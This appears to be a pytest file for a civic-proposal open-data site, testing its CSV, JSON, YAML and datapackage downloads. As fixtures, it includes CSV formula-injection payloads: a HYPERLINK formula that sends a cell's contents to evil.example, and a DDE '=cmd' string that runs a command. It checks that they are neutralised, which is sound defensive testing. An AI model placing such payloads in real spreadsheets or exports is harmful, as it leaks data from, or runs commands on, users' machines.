"""Open data (/data/): proposals.csv, the JSON downloads, the YAML copies,
datapackage.json and the data dictionary on the page. The citations of outcome
pages are in tests/test_site_citation.py.

Builds a real site from a copy of tests/fixtures/public plus two proposals made
to test the CSV (titles that a spreadsheet would run as formulas), one of them
coarsened to years. Run from the project root:
.venv/bin/python -m pytest tests/test_site_opendata.py -q
"""

from __future__ import annotations

import codecs
import csv
import dataclasses
import io
import json
import sys

import frictionless
import pytest
import yaml
from sitebuild import (
    ROOT,
    build,
    copy_fixture,
    proposal,
    soup,
    text,
    write_coarsened_proposal,
    write_yaml,
)

from pipeline.leaks import RawValues, scan

sys.path.insert(0, str(ROOT / "plugins"))

from showcase.data import ShowcaseDataError, load_vocabulary
from showcase.dictionary import load_dictionary
from showcase.downloads import FORMULA_START, neutralise, open_record, proposal_row
from showcase.models import Proposal
from showcase.schema import Problem

HYPERLINK = '=HYPERLINK("https://evil.example/?q="&A1,"点击查看")'
PUBLISHED = ["xzjy-2024-000101", "xzjy-2024-000188", "xzjy-2024-000215", "xzjy-2024-000301", "xzjy-2024-000302"]


@pytest.fixture(scope="module")
def site_vocabulary():
    return load_vocabulary(ROOT / "config" / "vocabulary.yaml")


@pytest.fixture(scope="module")
def dictionary(site_vocabulary):
    """The dictionary as the fixture site publishes it: the fixture has no sessions, so no session resources."""
    from dataclasses import replace

    from showcase.pages.opendata import SESSION_FILES

    whole = load_dictionary(site_vocabulary)
    return replace(whole, resources=tuple(r for r in whole.resources if r.path not in SESSION_FILES))


@pytest.fixture(scope="module")
def data(tmp_path_factory):
    data = copy_fixture(tmp_path_factory.mktemp("opendata"))
    write_yaml(
        data / "proposals/xzjy-2024-000301.yaml",
        proposal(
            "xzjy-2024-000301",
            title=HYPERLINK,
            body="  -1+2 起步价应当下调\n第二行",
            outcome="@SUM(A1:A9)",
            lead_unit="＝1+1 办公室",
            co_units=["\t市交通运输局", "=cmd|' /C calc'!A0"],
        ),
    )
    write_coarsened_proposal(data)
    return data


@pytest.fixture(scope="module")
def site(data, tmp_path_factory):
    return build(tmp_path_factory.mktemp("site"), data)


def csv_rows(site) -> list[dict]:
    raw = (site / "data/proposals.csv").read_bytes()
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


# --- proposals.csv ---------------------------------------------------------


def test_csv_opens_with_bom_one_row_per_published_proposal(site, dictionary):
    raw = (site / "data/proposals.csv").read_bytes()
    assert raw.startswith(codecs.BOM_UTF8) and not raw.startswith(codecs.BOM_UTF8 * 2)
    header = next(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert tuple(header) == dictionary.resource("proposals").field_names
    assert [row["id"] for row in csv_rows(site)] == PUBLISHED  # no tombstone, sorted by id


def test_csv_row_of_a_proposal(site):
    row = next(r for r in csv_rows(site) if r["id"] == "xzjy-2024-000101")
    assert row == {
        "id": "xzjy-2024-000101",
        "url": "/proposals/xzjy-2024-000101/",
        "title": "考核指标不应层层下压到社区",
        "received": "2024-03",
        "channel": "村(社区)征集点",
        "campaign": "为基层减负",
        "topic": "基层治理",
        "proposer": "村(社区)党组织书记 · 铜山区",
        "proposer_type": "村(社区)党组织书记",
        "proposer_group": "基层和新就业群体",
        "proposer_district": "铜山区",
        "decision": "采纳",
        "stage": "褒奖",
        "lead_unit": "市委社会工作部",
        "co_units": "市民政局、市司法局",
        "submitted_on": "2024-03-18",
        "supervised_on": "2024-04-02",
        "transformed_on": "2024-06-20",
        "feedback_on": "2024-07-05",
        "displayed_on": "2024-07-15",
        "commended_on": "2024-12-20",
        "first_published": "2024-07-15",
        "last_updated": "2024-12-20",
        "stories": "grassroots-burden-2024",
        "commendations": "2024 金点子一等奖",
        "body": "社区每年要配合完成的考核和台账事项越来越多，很多事项本应由职能部门自己完成。\n"
        "建议梳理社区协助事项清单，凡是清单之外的任务不再下派，并明确哪些证明社区不应出具。",
        "outcome": "市委社会工作部牵头开展专题调研，出台减负措施，社区协助事项由148项精简为61项。\n"
        "不得要求村（社区）出具的证明事项由20项增加到31项。",
    }
    empty = next(r for r in csv_rows(site) if r["id"] == "xzjy-2024-000215")
    assert (empty["supervised_on"], empty["commended_on"], empty["outcome"], empty["campaign"]) == ("", "", "", "")


def test_csv_neutralises_formulas(site):
    rows = {r["id"]: r for r in csv_rows(site)}
    assert rows["xzjy-2024-000301"]["title"] == "'" + HYPERLINK
    assert rows["xzjy-2024-000302"]["title"] == "'+86热线应当24小时有人接听"
    assert rows["xzjy-2024-000301"]["body"] == "'  -1+2 起步价应当下调\n第二行"
    assert rows["xzjy-2024-000301"]["outcome"] == "'@SUM(A1:A9)"
    assert rows["xzjy-2024-000301"]["lead_unit"] == "'＝1+1 办公室"
    assert rows["xzjy-2024-000301"]["co_units"] == "'\t市交通运输局、=cmd|' /C calc'!A0"
    for row in rows.values():
        for name, cell in row.items():
            assert not FORMULA_START.match(cell), (row["id"], name, cell)


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"), ("+86 516", "'+86 516"), ("-5", "'-5"), ("@SUM(A1)", "'@SUM(A1)"), ("  =1", "'  =1"),
        ("\t=1", "'\t=1"), ("\n-1", "'\n-1"), ("\u3000＝1", "'\u3000＝1"), ("\tabc", "'\tabc"), ("\rabc", "'\rabc"),
        ("a=b", "a=b"), ("2024-03", "2024-03"), ("  正文", "  正文"), ("", ""),
    ],
)  # fmt: skip
def test_neutralise(cell, expected):
    assert neutralise(cell) == expected


def test_csv_columns_and_dictionary_cannot_drift(data, dictionary, site_vocabulary):
    record = yaml.safe_load((data / "proposals/xzjy-2024-000188.yaml").read_text(encoding="utf-8"))
    resource = dictionary.resource("proposals")
    fewer = dataclasses.replace(resource, fields=resource.fields[:-1])
    with pytest.raises(ValueError, match="outcome"):
        proposal_row(Proposal.from_yaml(record, site_vocabulary), fewer, {})


# --- JSON and YAML copies --------------------------------------------------


def test_json_equals_the_yaml(site, data, dictionary):
    """The YAML records, with null for each dictionary field a record leaves out
    (the optional English ones): Frictionless reads the table by the first
    object's keys, so every object has them all, in the dictionary's order."""

    def records(folder, resource):
        loaded = [yaml.safe_load(p.read_text(encoding="utf-8")) for p in sorted((data / folder).glob("*.yaml"))]
        names = dictionary.resource(resource).field_names
        return [{name: r.get(name) for name in names} for r in loaded if r.get("status") != "withdrawn"]

    proposals = json.loads((site / "data/proposals.json").read_text(encoding="utf-8"))
    assert proposals == records("proposals", "proposals-json")
    assert [list(p) for p in proposals] == [list(dictionary.resource("proposals-json").field_names)] * len(proposals)
    titles = [p["title_en"] for p in proposals]
    assert None in titles and any(isinstance(t, str) for t in titles)  # one fixture record has English
    assert json.loads((site / "data/stories.json").read_text(encoding="utf-8")) == records("stories", "stories")


def test_a_yaml_key_without_a_description_stops_the_json_download(dictionary):
    record = {name: None for name in dictionary.resource("stories").field_names} | {"colour": "red"}
    with pytest.raises(ValueError, match="colour"):
        open_record(record, dictionary.resource("stories"))


def test_yaml_copies_are_byte_copies_of_the_data_folder(site, data):
    originals = {p.relative_to(data).as_posix(): p.read_bytes() for p in data.rglob("*.yaml")}
    copies = {
        p.relative_to(site / "data/yaml").as_posix(): p.read_bytes()
        for p in (site / "data/yaml").rglob("*")
        if p.is_file()
    }
    assert copies == originals
    assert "proposals/xzjy-2023-000045.yaml" in copies  # the tombstone too: a cited id still answers


def test_downloads_are_deterministic(site, data, tmp_path):
    again = build(tmp_path / "again", data)
    for path in sorted((site / "data").rglob("*")):
        if path.is_file():
            name = path.relative_to(site)
            assert (again / name).read_bytes() == path.read_bytes(), name


def test_consented_names_in_the_commendations_copy_pass_the_leak_scan(tmp_path):
    data = copy_fixture(tmp_path)
    path = data / "commendations/2024.yaml"
    awards = yaml.safe_load(path.read_text(encoding="utf-8"))
    awards["awards"][1]["recipient"] = "李娜"
    write_yaml(path, awards)
    site = build(tmp_path / "site", data)
    assert "李娜" in (site / "data/yaml/commendations/2024.yaml").read_text(encoding="utf-8")
    values = RawValues.build(names=["李娜"], credited=["李娜"])
    assert scan([site], values) == []
    (site / "data/yaml/stats.yaml").write_text("李娜", encoding="utf-8")  # anywhere else it is a leak
    assert [leak.family for leak in scan([site], values)] == ["raw_value"]


# --- datapackage.json and the data dictionary ------------------------------


def test_datapackage_validates(site):
    report = frictionless.validate(str(site / "data/datapackage.json"))
    assert [(task.name, task.valid, [e.note for e in task.errors]) for task in report.tasks] == [
        ("proposals", True, []),
        ("proposals-json", True, []),
        ("stories", True, []),
    ]
    assert report.valid


def test_datapackage_catches_a_changed_file(site, tmp_path):
    for name in ("datapackage.json", "proposals.json", "stories.json"):
        (tmp_path / name).write_bytes((site / "data" / name).read_bytes())
    csv_bytes = (site / "data/proposals.csv").read_bytes()
    (tmp_path / "proposals.csv").write_bytes(csv_bytes.replace("考核指标".encode(), "考核目标".encode()))
    report = frictionless.validate(str(tmp_path / "datapackage.json"))
    assert [e.type for e in report.tasks[0].errors] == ["hash-count"]


def test_datapackage_describes_every_field_from_the_dictionary(site, dictionary):
    package = json.loads((site / "data/datapackage.json").read_text(encoding="utf-8"))
    assert package["licenses"] == [
        {
            "name": "CC-BY-4.0",
            "title": "知识共享署名 4.0 国际许可协议（CC BY 4.0）",
            "path": "https://creativecommons.org/licenses/by/4.0/",
        }
    ]
    assert (package["name"], package["title"]) == (dictionary.name, dictionary.title)
    assert [r["path"] for r in package["resources"]] == ["proposals.csv", "proposals.json", "stories.json"]
    for resource, described in zip(dictionary.resources, package["resources"], strict=True):
        assert [(f["name"], f["type"], f["title"], f["description"]) for f in described["schema"]["fields"]] == [
            (f.name, f.type, f.title, f.description) for f in resource.fields
        ]
        assert all(f["description"].strip() and f["title"].strip() for f in described["schema"]["fields"])
    topic = next(f for f in package["resources"][0]["schema"]["fields"] if f["name"] == "topic")
    assert topic["constraints"]["enum"][:2] == ["城乡建设", "交通出行"]  # from the vocabulary


def test_every_dictionary_field_is_on_the_data_page(site, dictionary):
    page = soup(site, "data/index.html")
    for resource in dictionary.resources:
        table = page.find(id=f"dictionary-{resource.name}").find_next("table")
        rows = [(tr["data-field"], text(tr.find("td").find_next("td"))) for tr in table.tbody.find_all("tr")]
        assert [name for name, _ in rows] == list(resource.field_names)
        for field, (_, description) in zip(resource.fields, rows, strict=True):
            assert description.startswith(field.description), field.name
            if field.enum:
                assert "取值：" + "、".join(field.enum) in description


DOWNLOADS = ("proposals.csv", "proposals.json", "stories.json", "datapackage.json")


def test_data_page_states_the_licence_and_links_the_downloads(site):
    page = soup(site, "data/index.html")
    assert text(page.h1) == "开放数据"
    licence = text(page.find(id="licence-heading").parent)
    assert "知识共享署名 4.0 国际许可协议（CC BY 4.0）" in licence
    assert "https://creativecommons.org/licenses/by/4.0/" in licence
    links = [a["href"] for a in page.select(".downloads a")]
    assert links == [f"../data/{name}" for name in DOWNLOADS]
    # The fixture has no sessions: no session downloads (tests/test_site_sessions.py has them).
    assert [text(span) for span in page.select(".downloads .records")] == ["5 条", "5 条", "1 条"]
    footer = soup(site, "index.html").footer
    assert "./data/" in [a["href"] for a in footer.find_all("a")]


def test_dictionary_stage_columns_follow_the_vocabulary(dictionary, site_vocabulary):
    stages = [f.stage for f in dictionary.resource("proposals").fields if f.stage]
    assert stages == list(site_vocabulary.stage_names[1:])  # 征集 is `received`


def test_broken_dictionary_stops_the_build(tmp_path, site_vocabulary):
    path = tmp_path / "data_dictionary.yaml"
    source = yaml.safe_load((ROOT / "plugins/showcase/data_dictionary.yaml").read_text(encoding="utf-8"))
    fields = source["resources"][0]["fields"]
    fields[0].pop("description")
    fields[1]["type"] = "text"
    fields[2]["stage"] = "审核"
    fields[3]["colour"] = "red"
    fields.append(dict(fields[-1]))
    write_yaml(path, source)
    with pytest.raises(ShowcaseDataError) as caught:
        load_dictionary(site_vocabulary, path)
    name = "data_dictionary.yaml"
    assert caught.value.problems == [
        Problem(name, "resources[0].fields[0].description", "missing-key", "缺少必填字段"),
        Problem(name, "resources[0].fields[1].type", "not-in-vocabulary", "'text' 不在词表 Table Schema types 中"),
        Problem(name, "resources[0].fields[3].colour", "unknown-key", "不是数据字典的字段"),
    ]
    fields[0]["description"], fields[1]["type"] = "说明", "string"
    fields.pop(3)
    write_yaml(path, source)
    with pytest.raises(ShowcaseDataError) as caught:
        load_dictionary(site_vocabulary, path)
    last = len(fields) - 1
    assert caught.value.problems == [
        Problem(name, "resources[0].fields[2].stage", "not-in-vocabulary", "不是环节"),
        Problem(name, f"resources[0].fields[{last - 1}].name", "duplicate", "字段名重复"),
        Problem(name, f"resources[0].fields[{last}].name", "duplicate", "字段名重复"),
    ]
